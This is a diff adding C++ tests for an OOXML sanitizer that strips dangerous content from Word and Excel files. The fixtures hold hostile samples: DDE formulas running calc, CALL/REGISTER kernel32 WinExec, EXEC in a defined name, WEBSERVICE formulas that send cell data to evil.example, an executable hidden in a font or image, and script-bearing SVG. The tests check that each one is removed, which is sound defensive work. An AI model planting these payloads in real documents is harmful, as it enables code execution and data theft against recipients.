@@ -11,6 +11,7 @@
 #include <map>
 
 #include "converters/archive/zip_builder.h"
+#include "converters/image/image_sanitizer.h"
 #include "test_support.h"
 
 namespace mugai {
@@ -556,6 +557,238 @@ TEST(OoxmlDisarm, WorkbookOfMacroSheetsOnlyIsRefused) {
   Result<OoxmlDisarmed> r = DisarmOoxml(Zip(m), Limits());
   ASSERT_FALSE(r.ok());
   EXPECT_EQ(r.status().code(), StatusCode::kInvalidArgument) << r.status().message();
+}
+
+// ---- Issue 20: the allow-list ----
+
+const std::string kTypesHead =
+    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Types "
+    "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default "
+    "Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
+    "<Default Extension=\"xml\" ContentType=\"application/xml\"/>";
+const std::string kRelsHead =
+    "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?><Relationships "
+    "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">";
+const std::string kRelNs = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
+
+std::string Rel(const std::string& id, const std::string& type, const std::string& target,
+                bool external = false) {
+  std::string uri = type.find("://") == std::string::npos ? kRelNs + type : type;
+  return "<Relationship Id=\"" + id + "\" Type=\"" + uri + "\" Target=\"" + target + "\"" +
+         (external ? " TargetMode=\"External\"" : "") + "/>";
+}
+
+// A docx: `body` in word/document.xml, `rels` its relationships, `types` more content types,
+// `extra` more parts.
+std::string CraftedDocx(const std::string& body, const std::string& rels, const std::string& types,
+                        const Members& extra) {
+  Members m = extra;
+  m["[Content_Types].xml"] =
+      kTypesHead + "<Default Extension=\"png\" ContentType=\"image/png\"/>" +
+      "<Override PartName=\"/word/document.xml\" ContentType=\"application/"
+      "vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml\"/>" +
+      types + "</Types>";
+  m["_rels/.rels"] = kRelsHead + Rel("rId1", "officeDocument", "word/document.xml") +
+                     (m.contains("webextensions/taskpanes.xml")
+                          ? Rel("rId2",
+                                "http://schemas.microsoft.com/office/2011/relationships/"
+                                "webextensiontaskpanes",
+                                "webextensions/taskpanes.xml")
+                          : "") +
+                     "</Relationships>";
+  m["word/document.xml"] =
+      "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\" "
+      "xmlns:r=\"" + kRelNs.substr(0, kRelNs.size() - 1) + "\" "
+      "xmlns:v=\"urn:schemas-microsoft-com:vml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\">"
+      "<w:body><w:p><w:r><w:t>本文</w:t></w:r></w:p>" + body + "</w:body></w:document>";
+  m["word/_rels/document.xml.rels"] = kRelsHead + rels + "</Relationships>";
+  return Zip(m);
+}
+
+std::string Png() { return Unzip(Fixture("docx-ole-object.docx"))["word/media/image1.png"]; }
+
+const std::string kExe = std::string("MZ\x90\0\x03\0\0\0", 8) + "This program cannot be run in DOS mode.";
+
+TEST(OoxmlAllowList, PartsNoRuleNamedAreRemovedAndReported) {
+  struct PartCase {
+    const char* what;
+    std::string rels, types;
+    Members extra;
+    std::string gone_part;  // not in the output
+    std::string finding;    // (what) in the findings
+  };
+  const std::string ct = "application/vnd.openxmlformats-officedocument.";
+  const PartCase cases[] = {
+      {"customXml with a Power Query DataMashup",
+       Rel("rId5", "customXml", "../customXml/item1.xml"), "",
+       {{"customXml/item1.xml", "<DataMashup xmlns=\"http://schemas.microsoft.com/DataMashup\">AAAA</DataMashup>"}},
+       "customXml/item1.xml", "part_not_allowed"},
+      {"embedded font carrying EXE bytes", Rel("rId5", "font", "fonts/font1.odttf"),
+       "<Default Extension=\"odttf\" ContentType=\"" + ct + "obfuscatedFont\"/>",
+       {{"word/fonts/font1.odttf", kExe}}, "word/fonts/font1.odttf", "part_not_allowed"},
+      {"web add-in with an auto-show task pane", "",
+       "<Override PartName=\"/webextensions/taskpanes.xml\" "
+       "ContentType=\"application/vnd.ms-office.webextensiontaskpanes+xml\"/>",
+       {{"webextensions/taskpanes.xml",
+         "<wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\">"
+         "<wetp:taskpane dockstate=\"right\" visibility=\"1\"/></wetp:taskpanes>"}},
+       "webextensions/taskpanes.xml", "part_not_allowed"},
+      {"an executable behind an image relationship", Rel("rId5", "image", "media/image1.png"), "",
+       {{"word/media/image1.png", kExe}}, "word/media/image1.png", "image_not_an_image"},
+      {"SVG with script and an external image", Rel("rId5", "image", "media/image2.svg"),
+       "<Default Extension=\"svg\" ContentType=\"image/svg+xml\"/>",
+       {{"word/media/image2.svg",
+         "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script>"
+         "<image href=\"http://evil.example/x.png\"/></svg>"}},
+       "word/media/image2.svg", "svg_image"},
+      {"a part of an unknown type", Rel("rId5", "image", "media/x.bin"),
+       "<Default Extension=\"bin\" ContentType=\"application/octet-stream\"/>",
+       {{"word/media/x.bin", kExe}}, "word/media/x.bin", "part_not_allowed"},
+  };
+  for (const PartCase& c : cases) {
+    SCOPED_TRACE(c.what);
+    Result<OoxmlDisarmed> r = DisarmOoxml(CraftedDocx("", c.rels, c.types, c.extra), Limits());
+    ASSERT_TRUE(r.ok()) << r.status().message();
+    EXPECT_TRUE(Has(r->findings, c.finding)) << Describe(r->findings);
+    Members out = Unzip(r->bytes);
+    EXPECT_FALSE(out.contains(c.gone_part));
+    for (const auto& [name, bytes] : out) {
+      EXPECT_EQ(bytes.find("This program cannot"), std::string::npos) << name;
+      EXPECT_EQ(bytes.find("DataMashup"), std::string::npos) << name;
+      EXPECT_EQ(bytes.find("<script"), std::string::npos) << name;
+    }
+    // The output, disarmed again, loses nothing more (the verifier's check).
+    Result<OoxmlDisarmed> again = DisarmOoxml(r->bytes, Limits());
+    ASSERT_TRUE(again.ok()) << again.status().message();
+    EXPECT_TRUE(again->findings.removed.empty()) << Describe(again->findings);
+    EXPECT_EQ(OoxmlText(r->bytes, Limits()).value(), "本文\n");
+  }
+}
+
+TEST(OoxmlAllowList, ImagesAreReencodedWithoutWhatWasAppended) {
+  ASSERT_TRUE(InitImageLibrary().ok());
+  const std::string png = Png();
+  Result<OoxmlDisarmed> r = DisarmOoxml(
+      CraftedDocx("", Rel("rId5", "image", "media/image1.png"), "",
+                  {{"word/media/image1.png", png + kExe + "<html><script>x()</script></html>"}}),
+      Limits());
+  ASSERT_TRUE(r.ok()) << r.status().message();
+  EXPECT_EQ(r->findings.images_reencoded, 1u);
+  std::string out = Unzip(r->bytes)["word/media/image1.png"];
+  ASSERT_FALSE(out.empty());
+  EXPECT_EQ(out.substr(0, 8), "\x89PNG\r\n\x1a\n");
+  EXPECT_EQ(out.find("This program"), std::string::npos);
+  EXPECT_EQ(out.find("<script"), std::string::npos);
+  EXPECT_TRUE(out.ends_with(std::string("IEND\xAE\x42\x60\x82", 8)));
+}
+
+TEST(OoxmlAllowList, VmlAddressesMailMergeAndConnectionsGo) {
+  std::string body =
+      "<w:p><w:r><w:pict><v:shape><v:imagedata src=\"file://\\\\host\\share\\x.png\" o:title=\"\"/>"
+      "<v:fill src=\"http://evil.example/x.png\" type=\"frame\"/></v:shape></w:pict></w:r></w:p>";
+  Members extra = {{"word/settings.xml",
+                    "<w:settings xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
+                    "<w:mailMerge><w:mainDocumentType w:val=\"formLetters\"/><w:connectString "
+                    "w:val=\"Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\host\\share\\x.xlsx\"/>"
+                    "</w:mailMerge><w:zoom w:percent=\"100\"/></w:settings>"}};
+  Result<OoxmlDisarmed> r = DisarmOoxml(
+      CraftedDocx(body, Rel("rId5", "settings", "settings.xml"),
+                  "<Override PartName=\"/word/settings.xml\" ContentType=\"application/"
+                  "vnd.openxmlformats-officedocument.wordprocessingml.settings+xml\"/>",
+                  extra),
+      Limits());
+  ASSERT_TRUE(r.ok()) << r.status().message();
+  Members out = Unzip(r->bytes);
+  EXPECT_TRUE(Has(r->findings, "outside_reference")) << Describe(r->findings);
+  EXPECT_TRUE(Has(r->findings, "mail_merge")) << Describe(r->findings);
+  EXPECT_EQ(out["word/document.xml"].find("src="), std::string::npos) << out["word/document.xml"];
+  EXPECT_NE(out["word/document.xml"].find("v:imagedata"), std::string::npos);
+  EXPECT_EQ(out["word/settings.xml"].find("mailMerge"), std::string::npos);
+  EXPECT_NE(out["word/settings.xml"].find("w:zoom"), std::string::npos);
+}
+
+// xlsx with one sheet of the given cells, a workbook with `names`, and `parts`.
+std::string CraftedXlsx(const std::string& cells, const std::string& names,
+                        const std::string& rels = "", const std::string& types = "",
+                        const Members& extra = {}) {
+  Members m = Unzip(Fixture("ja-text.xlsx"));
+  for (const auto& [k, v] : extra) m[k] = v;
+  std::string& sheet = m["xl/worksheets/sheet1.xml"];
+  sheet.replace(sheet.find("</sheetData>"), 0, "<row r=\"9\">" + cells + "</row>");
+  std::string& wb = m["xl/workbook.xml"];
+  if (!names.empty()) wb.replace(wb.find("</workbook>"), 0, "<definedNames>" + names + "</definedNames>");
+  std::string& r = m["xl/_rels/workbook.xml.rels"];
+  r.replace(r.find("</Relationships>"), 0, rels);
+  std::string& t = m["[Content_Types].xml"];
+  t.replace(t.find("</Types>"), 0, types);
+  return Zip(m);
+}
+
+TEST(OoxmlAllowList, FormulasThatFetchOrRunKeepOnlyTheirValues) {
+  struct FormulaCase {
+    const char* formula;
+    const char* what;  // "" = kept
+  };
+  const FormulaCase cases[] = {
+      {"WEBSERVICE(\"http://evil.example/?\"&amp;A1)", "network_formula"},
+      {"_xlfn.WEBSERVICE(\"http://evil.example/\")", "network_formula"},
+      {"_xlfn.IMAGE(\"http://evil.example/x.png\")", "network_formula"},
+      {"RTD(\"prog.id\",,\"x\")", "network_formula"},
+      {"HYPERLINK(\"file://\\\\host\\share\\x.exe\",\"open\")", "network_formula"},
+      {"CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", "code_formula"},
+      {"REGISTER(\"kernel32\",\"WinExec\")", "code_formula"},
+      {"cmd|' /C calc'!A0", "dde_formula"},
+      {"'cmd'|'/c calc'!A0", "dde_formula"},
+      {"'\\\\host\\share\\[x.xlsx]Sheet1'!A1", "external_formula"},
+      {"[x.xlsx]Sheet1!A1", "external_formula"},
+      {"[1]Sheet1!A1", "external_formula"},
+      {"SUM(A1:A2)*2", ""},
+      {"Table1[Col]+Table1[[#This Row],[Col]]", ""},
+      {"IF(A1=\"cmd|x\",1,2)", ""},
+      {"'予算 2026'!B2", ""},
+  };
+  std::string cells;
+  int col = 0;
+  for (const FormulaCase& c : cases) {
+    std::string ref = std::string(1, static_cast<char>('A' + col++)) + "9";
+    cells += "<c r=\"" + ref + "\"><f>" + c.formula + "</f><v>42</v></c>";
+  }
+  Result<OoxmlDisarmed> r = DisarmOoxml(CraftedXlsx(cells, ""), Limits());
+  ASSERT_TRUE(r.ok()) << r.status().message();
+  std::string sheet = Unzip(r->bytes)["xl/worksheets/sheet1.xml"];
+  col = 0;
+  for (const FormulaCase& c : cases) {
+    SCOPED_TRACE(c.formula);
+    std::string ref = std::string(1, static_cast<char>('A' + col++)) + "9";
+    if (*c.what) {
+      EXPECT_NE(sheet.find("<c r=\"" + ref + "\"><v>42</v></c>"), std::string::npos) << sheet;
+      EXPECT_TRUE(Has(r->findings, c.what)) << Describe(r->findings);
+    } else {
+      EXPECT_NE(sheet.find("<c r=\"" + ref + "\"><f>"), std::string::npos) << sheet;
+    }
+  }
+}
+
+TEST(OoxmlAllowList, DefinedNamesThatRunAndWorkbookConnectionsGo) {
+  std::string names = "<definedName name=\"go\">EXEC(\"calc.exe\")</definedName>"
+                      "<definedName name=\"feed\">WEBSERVICE(\"http://evil.example/\")</definedName>"
+                      "<definedName name=\"total\">'予算'!$B$2</definedName>";
+  std::string rels = Rel("rId9", "connections", "connections.xml");
+  std::string types = "<Override PartName=\"/xl/connections.xml\" ContentType=\"application/"
+                      "vnd.openxmlformats-officedocument.spreadsheetml.connections+xml\"/>";
+  Members extra = {{"xl/connections.xml",
+                    "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">"
+                    "<connection id=\"1\" name=\"q\" type=\"4\" refreshOnLoad=\"1\"><webPr "
+                    "url=\"http://evil.example/q\"/></connection></connections>"}};
+  Result<OoxmlDisarmed> r = DisarmOoxml(CraftedXlsx("", names, rels, types, extra), Limits());
+  ASSERT_TRUE(r.ok()) << r.status().message();
+  Members out = Unzip(r->bytes);
+  EXPECT_FALSE(out.contains("xl/connections.xml"));
+  EXPECT_TRUE(Has(r->findings, "code_formula", "go")) << Describe(r->findings);
+  EXPECT_TRUE(Has(r->findings, "network_formula", "feed")) << Describe(r->findings);
+  EXPECT_EQ(out["xl/workbook.xml"].find("EXEC"), std::string::npos);
+  EXPECT_NE(out["xl/workbook.xml"].find("name=\"total\""), std::string::npos);
+  for (const auto& [name, bytes] : out) EXPECT_EQ(bytes.find("evil.example"), std::string::npos) << name;
 }
 
 }  // namespace
